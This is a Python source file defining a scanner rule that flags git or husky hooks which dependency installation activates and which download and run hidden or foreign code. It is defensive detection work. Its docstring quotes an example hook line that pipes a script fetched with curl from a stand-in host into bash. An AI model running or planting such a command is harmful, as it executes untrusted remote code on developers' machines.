"""What it sees
    A hook script that becomes live when dependencies are installed (`.husky/pre-commit`, `.githooks/...`) and that
    downloads and runs code, hides what it starts, or runs a file that is not code.

Why it matters
    `npm install` runs `prepare`, which switches these hooks on; the next commit runs them.

Example
    .husky/post-checkout:  curl -s https://a.test/x | bash

What to do
    Do not install or commit. Read the script.

False alarms
    Linters, formatters and tests in hooks are what hooks are for; they are not reported.

References
    ATT&CK T1546, T1059.004; githooks(5).
"""

from collections.abc import Iterator

from lazaretto.detect.commands import need_whole, start_signals, uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.gitfiles import HuskyHook
from lazaretto.parse.shell import analyse


def check(view: HuskyHook) -> Iterator[Match | Signal]:
    """Judge the script; ordinary ones give signals only."""
    facts = analyse(view.blob.text)
    root = view.path.rsplit("/", 2)[0] if view.path.count("/") > 1 else ""
    yield from start_signals(facts, Phase.RUN, view.path, root, 1)
    danger = uninvited(facts)
    if danger is not None:
        yield danger.match(view.blob.name, 1, view.blob.text)
    need_whole(facts)


RULE = Rule(
    id="repo/husky-hook-runs-code",
    title=N_("A hook that installation switches on runs foreign or hidden code"),
    view=HuskyHook,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.OPEN,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__,
    techniques=("T1546", "T1059.004"),
)
